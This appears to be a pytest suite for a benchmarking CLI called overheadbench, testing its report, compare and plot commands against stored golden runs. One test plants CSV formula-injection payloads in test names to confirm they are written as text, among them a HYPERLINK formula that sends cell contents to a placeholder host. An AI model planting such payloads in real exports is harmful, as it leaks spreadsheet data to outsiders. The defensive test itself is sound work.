"""The ``overheadbench`` command against golden files (two stored runs in tests/golden/)."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import io
import json
import re
import shutil
import struct
import subprocess
import sys
from pathlib import Path

import pytest

from overheadbench.cli import main
from overheadbench.core.jsonio import strict
from overheadbench.core.vocabulary import Role
from overheadbench.engine.changes import StoredChange
from overheadbench.history.pair_changes import compare_runs
from overheadbench.pairs.results import PlaceResult
from overheadbench.report.files.plots import distributions, plotted
from overheadbench.report.files.spreadsheet import csv_text
from overheadbench.store.runs import read_run

GOLDEN = Path(__file__).parent / "golden"


@pytest.fixture(autouse=True, scope="module")
def _font_cache() -> None:
    """matplotlib runs ``fc-list`` once a machine to build its font cache: before the plots, not in a
    ``unit`` test (a fresh machine's first plot otherwise starts a process where none may start)."""
    with contextlib.suppress(ImportError):
        import matplotlib.font_manager  # noqa: F401, PLC0415


@pytest.fixture
def storage(tmp_path: Path) -> Path:
    for name in ("0001_old.json", "0002_new.json"):
        shutil.copy(GOLDEN / name, tmp_path / name)
    return tmp_path


@pytest.mark.parametrize(("fmt", "golden"), [("markdown", "report.md"), ("csv", "report.csv")])
def test_report_matches_its_golden_file(storage: Path, capsys, fmt: str, golden: str) -> None:
    assert main(["--storage", str(storage), "report", "new", "--format", fmt]) == 0
    assert capsys.readouterr().out == (GOLDEN / golden).read_text()


def test_report_as_json_is_the_run_and_can_go_to_a_file(storage: Path, tmp_path: Path) -> None:
    assert main(["--storage", str(storage), "report", "0002", "--format", "json", "-o", str(tmp_path / "r.json")]) == 0
    assert "tests/test_mw.py::test_retry" in (tmp_path / "r.json").read_text()


def test_compare_prints_the_table_and_fails_above_the_threshold(storage: Path, capsys) -> None:
    assert main(["--storage", str(storage), "compare", "old", "new"]) == 0
    assert capsys.readouterr().out == (GOLDEN / "compare.txt").read_text()
    assert main(["--storage", str(storage), "compare", "old", "new", "--fail-above", "5"]) == 1
    out, err = capsys.readouterr()
    said = "REGRESSION tests/test_mw.py::test_retry: overhead regressed against 0001_old.json: 12.0% -> 31.5% (+17.4%"
    assert said in err and err.rstrip().endswith("more than --fail-above=5%")  # the session's own sentence
    assert "regressed" in out and "same" in out  # the outcome column, at the threshold
    assert main(["--storage", str(storage), "compare", "old", "new", "--fail-above", "25"]) == 0


def test_compare_says_its_runs_are_separate_sessions_and_what_the_interval_carries(storage: Path, capsys) -> None:
    """``compare`` of two runs read +36.7% where the paired session read +6%, with nothing saying the
    runs were not paired; and a run read on the wall clock compared with one on CPU time said nothing."""
    path = storage / "0002_new.json"
    data = json.loads(path.read_text())
    for sample in data["results"][0]["samples"]:
        sample["timer"] = "cpu"
    path.write_text(json.dumps(data))
    assert main(["--storage", str(storage), "compare", "old", "new"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("separate sessions, not paired: each interval adds twice this machine's spread")
    header = next(line for line in out.splitlines() if line.startswith("test "))
    assert "between sessions" in header
    retry = next(line for line in out.splitlines() if "test_retry" in line)
    assert re.search(r"\d\.\d% sd \(prior\); clocks wall->cpu", retry), retry
    assert "different clocks" in out
    metrics = next(line for line in out.splitlines() if "test_metrics" in line)
    assert "% sd (prior)" in metrics and "clocks" not in metrics


def test_compare_reads_an_unknown_change_as_the_session_does(storage: Path, capsys) -> None:
    """The CLI judged regressions only, without the unknown policy a session has: one check now."""
    assert main(["--storage", str(storage), "compare", "old", "new", "--fail-above", "17"]) == 0
    err = capsys.readouterr().err
    said = "UNKNOWN tests/test_mw.py::test_retry: cannot tell whether overhead changed by more than --fail-above=17%"
    assert said in err and "against 0001_old.json: 12.0% -> 31.5% (+17.4%" in err and "REGRESSION" not in err
    assert main(["--storage", str(storage), "compare", "old", "new", "--fail-above", "17", "--unknown", "fail"]) == 1


def test_compare_of_one_run_reads_the_changes_it_carries_against_its_stored_run(storage: Path, capsys) -> None:
    """A run made with --overhead-compare carries each change, computed once: the CLI reads it."""
    old, new = read_run(storage / "0001_old.json"), read_run(storage / "0002_new.json")
    changes = {change.what: change for change in compare_runs(old.results, new.results)}
    data = json.loads((storage / "0002_new.json").read_text())
    for result in data["results"]:
        if result["nodeid"] in changes:
            result["stored"] = StoredChange("0001_old.json", changes[result["nodeid"]]).to_json()
    (storage / "0003_carried.json").write_text(json.dumps(data))
    assert main(["--storage", str(storage), "compare", "carried", "--fail-above", "5"]) == 1
    out, err = capsys.readouterr()
    assert out.startswith("separate sessions, not paired") and "old (0001_old.json)" in out
    assert "REGRESSION tests/test_mw.py::test_retry: overhead regressed against" in err and "12.0% -> 31.5%" in err
    assert main(["--storage", str(storage), "compare", "new"]) == 0  # nothing carried: says what to name
    assert "name two runs to compare" in capsys.readouterr().out


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(storage: Path, capsys) -> None:
    """Test names and groups come from a downloaded artifact: none may become a live formula."""
    path = storage / "0002_new.json"
    data = json.loads(path.read_text())
    hostile = ['=HYPERLINK("http://x.invalid/?"&A1)', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcmd"]
    for result, name in zip(data["results"], hostile, strict=False):
        result["nodeid"] = name
        result["group"] = name
    path.write_text(json.dumps(data))
    assert main(["--storage", str(storage), "report", "new", "--format", "csv"]) == 0
    cells = [cell for row in csv.reader(io.StringIO(capsys.readouterr().out)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    quoted = {"'" + name for name in hostile}
    assert len(quoted & set(cells)) >= 2  # the names are there, as text
    # the checks format goes through the same writer: its cells alike, numbers left numbers
    assert csv_text([("=1+1", -0.5, 3, "a-b", "")]) == "'=1+1,-0.5,3,a-b,\n"


def test_a_corrupt_run_is_exit_code_2_with_the_file_named(storage: Path, capsys) -> None:
    (storage / "0003_broken.json").write_text('{"schema_version": 1, "res')
    assert main(["--storage", str(storage), "compare", "old", "broken"]) == 2
    assert "0003_broken.json: not a valid overheadbench run (corrupt or truncated JSON" in capsys.readouterr().err


def test_plots_are_written_as_svg_and_png(storage: Path, tmp_path: Path) -> None:
    assert main(["--storage", str(storage), "plot", "new", "-o", str(tmp_path / "d.svg")]) == 0
    assert "<svg" in (tmp_path / "d.svg").read_text()
    assert main(["--storage", str(storage), "plot", "--trend", "-o", str(tmp_path / "t.png")]) == 0
    assert (tmp_path / "t.png").read_bytes()[:4] == b"\x89PNG"


def test_a_trend_leaves_an_unreadable_stored_run_out_and_says_so(storage: Path, tmp_path: Path, capsys) -> None:
    """``plot --trend`` exited 2 on one bad file where ``compare`` and the gate warn and go on."""
    pytest.importorskip("matplotlib")
    (storage / "0003_broken.json").write_text('{"schema_version": 1, "res')
    assert main(["--storage", str(storage), "plot", "--trend", "-o", str(tmp_path / "t.svg")]) == 0
    assert "0003_broken.json: not a valid overheadbench run" in capsys.readouterr().err
    assert "<svg" in (tmp_path / "t.svg").read_text()


def test_a_plot_of_an_ab_run_draws_each_pair_on_both_trees(storage: Path, tmp_path: Path) -> None:
    """``plot`` of an A/B run drew the head alone."""
    run = read_run(storage / "0002_new.json")
    first, *rest = [result for result in run.results if result.samples]
    base = PlaceResult("HEAD~1", Role.BASE, first)
    run = dataclasses.replace(run, results=[dataclasses.replace(first, places=[base]), *rest])
    labels = [label for label, _ in plotted(run)]
    name = first.nodeid.split("::")[-1]
    assert labels[:2] == [f"{name} (head)", f"{name} (base HEAD~1)"]
    assert len(labels) == len(rest) + 2
    distributions("ab", run, tmp_path / "ab.svg")
    assert (tmp_path / "ab.svg").read_text().count('<g id="patch_') > len(labels)  # every box drawn


def test_a_plot_of_100_pairs_is_readable_marks_budgets_and_goes_logarithmic_over_decades(
    storage: Path, tmp_path: Path
) -> None:
    """100 pairs made a 5,460-pixel plot with a cut title; a 400x pair beside 5% ones flattened every box."""
    run = read_run(storage / "0002_new.json")
    first = next(result for result in run.results if result.samples)
    many = [
        dataclasses.replace(first, pair=dataclasses.replace(first.pair, nodeid=f"t.py::test_{i}")) for i in range(100)
    ]
    distributions("a suite of 100 pairs", dataclasses.replace(run, results=many), tmp_path / "many.png")
    width, height = struct.unpack(">II", (tmp_path / "many.png").read_bytes()[16:24])
    assert height <= 2600 and width == 900  # 100 dpi: 0.24 inches a row
    distributions("one run", run, tmp_path / "flat.svg")
    flat = (tmp_path / "flat.svg").read_text()
    assert "<!-- budget -->" in flat and "per pair of blocks (%)" in flat  # each row's budget marked
    slow = dataclasses.replace(
        first, samples=[dataclasses.replace(s, framework_ns=[400 * v for v in s.framework_ns]) for s in first.samples]
    )
    distributions("decades", dataclasses.replace(run, results=[first, slow]), tmp_path / "log.svg")
    assert "per pair of blocks (log)" in (tmp_path / "log.svg").read_text()


def test_without_matplotlib_plot_says_how_to_get_it(storage: Path, tmp_path: Path, capsys, monkeypatch) -> None:
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    assert main(["--storage", str(storage), "plot", "new", "-o", str(tmp_path / "d.svg")]) == 2
    assert "pip install 'overheadbench[plot]'" in capsys.readouterr().err


def test_the_console_command_runs(storage: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "overheadbench.cli", "--storage", str(storage), "compare", "1", "2"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0 and "~ +0.3%" in done.stdout


def test_storage_may_come_after_the_command(storage: Path, capsys) -> None:
    assert main(["compare", "old", "new", "--storage", str(storage)]) == 0
    assert capsys.readouterr().out == (GOLDEN / "compare.txt").read_text()
    assert main(["report", "0002", "--storage", str(storage), "--format", "csv"]) == 0


def _with_figures(path: Path, rps: float) -> None:
    """Add a transport test's figures to a stored run, in the shape runs had before schema 9."""
    data = json.loads(path.read_text())
    figure = {
        "nodeid": "tests/test_http.py::test_gateway",
        "row": "h2c c=10",
        "metric": "rps",
        "value": rps,
        "ci": [rps * 0.99, rps * 1.01],
        "interval": "95% CI over 10 windows",
        "samples": [rps] * 10,
        "note": "",
        "limit": 1000,
        "floor": True,
        "verdict": "pass",
        "message": "",
    }
    data["figures"], data["schema_version"] = [figure], 8
    path.write_text(json.dumps(strict(data)))  # as schema 8 wrote them: an unmeasured figure as null


def test_report_and_compare_cover_transport_figures(storage: Path, capsys) -> None:
    _with_figures(storage / "0001_old.json", 2000.0)
    _with_figures(storage / "0002_new.json", 500.0)
    assert main(["--storage", str(storage), "report", "new"]) == 0
    markdown = capsys.readouterr().out
    assert "## Transport" in markdown and "| `tests/test_http.py::test_gateway` | h2c c=10 | 500/s" in markdown
    assert "| `tests/test_http.py::test_gateway` | h2c c=10: req/s | 500/s | 95% CI over 10 windows" in markdown
    assert main(["--storage", str(storage), "report", "new", "--format", "checks"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0][:3] == ["test", "budget", "figure"]
    assert ["tests/test_http.py::test_gateway", "rps", "h2c c=10: req/s", "500.0"] == rows[-1][:4]
    assert rows[-1][rows[0].index("status")] == "fail"  # stored as judged then: below its 1,000/s floor
    assert main(["--storage", str(storage), "compare", "old", "new", "--fail-above", "5"]) == 1
    out, err = capsys.readouterr()
    assert any("test_gateway" in line and "h2c c=10 req/s" in line and "-75.0%" in line for line in out.splitlines())
    assert "REGRESSION tests/test_http.py::test_gateway: h2c c=10 req/s regressed against" in err
    assert ": 2,000/s -> 500/s (-75.0%" in err


def shards(storage: Path, *groups: list[int], python: str | None = None, prefix: str = "shard") -> list[str]:
    """The new run's results split into files (each group: the results' indexes), as shards of
    one suite written by separate CI jobs; ``python``: as measured under that Python."""
    run = json.loads((storage / "0002_new.json").read_text())
    names = []
    for number, indexes in enumerate(groups, start=1):
        shard = {**run, "results": [run["results"][i] for i in indexes]}
        if python is not None:
            machine = {**run["environment"]["machine_info"], "python_version": python}
            shard["environment"] = {**run["environment"], "machine_info": machine}
        path = storage / f"{prefix}{number}.json"
        path.write_text(json.dumps(shard))
        names.append(str(path))
    return names


def test_shards_of_one_suite_merge_into_the_report_of_the_whole_run(storage: Path, capsys) -> None:
    whole = main(["--storage", str(storage), "report", "new", "--format", "csv"])
    whole_rows = capsys.readouterr().out
    assert (
        main(["--storage", str(storage), "report", *shards(storage, [0], [1], [2, 3]), "--format", "csv"]) == whole == 0
    )
    assert capsys.readouterr().out == whole_rows  # the same tests, one table, in the shards' order
    assert main(["--storage", str(storage), "report", *shards(storage, [0], [1], [2, 3])]) == 0
    assert capsys.readouterr().out.count("# Overhead report") == 1


def test_a_test_in_two_shards_is_an_error_naming_both_files(storage: Path, capsys) -> None:
    assert main(["--storage", str(storage), "report", *shards(storage, [0, 1], [1, 2])]) == 2
    assert (
        "tests/test_mw.py::test_metrics: measured in both shard1.json and shard2.json, runs of the same environment"
        in capsys.readouterr().err
    )


def test_runs_of_other_environments_are_a_column_each_and_not_paired(storage: Path, tmp_path: Path, capsys) -> None:
    py311 = shards(storage, [0, 1], [2, 3], prefix="py311-")
    py313 = shards(storage, [0, 1, 2, 3], python="3.13.0", prefix="py313-")
    assert main(["--storage", str(storage), "report", *py311, *py313]) == 0
    out = capsys.readouterr().out
    assert "| Test | Figure | py3.11.7 | py3.13.0 |" in out and "_Separate sessions: not paired." in out
    assert "Runs: py311-1.json, py311-2.json" in out and "Runs: py313-1.json" in out
    assert "| `tests/test_mw.py::test_retry` | overhead | 31.5% (" in out
    assert main(["--storage", str(storage), "report", *py311, *py313, "--format", "csv"]) == 0
    header, *rows = csv.reader(io.StringIO(capsys.readouterr().out))
    assert header == ["test", "figure", "py3.11.7", "py3.13.0"] and all(row[2] and row[3] for row in rows)
    assert main(["--storage", str(storage), "report", *py311, *py313, "--format", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["paired"] is False and [e["label"] for e in document["environments"]] == ["py3.11.7", "py3.13.0"]
    assert main(["--storage", str(storage), "report", *py311, *py313, "--format", "checks"]) == 2
    assert main(["--storage", str(storage), "plot", *py311, *py313, "-o", str(tmp_path / "e.svg")]) == 0
    assert "overhead by environment" in (tmp_path / "e.svg").read_text()
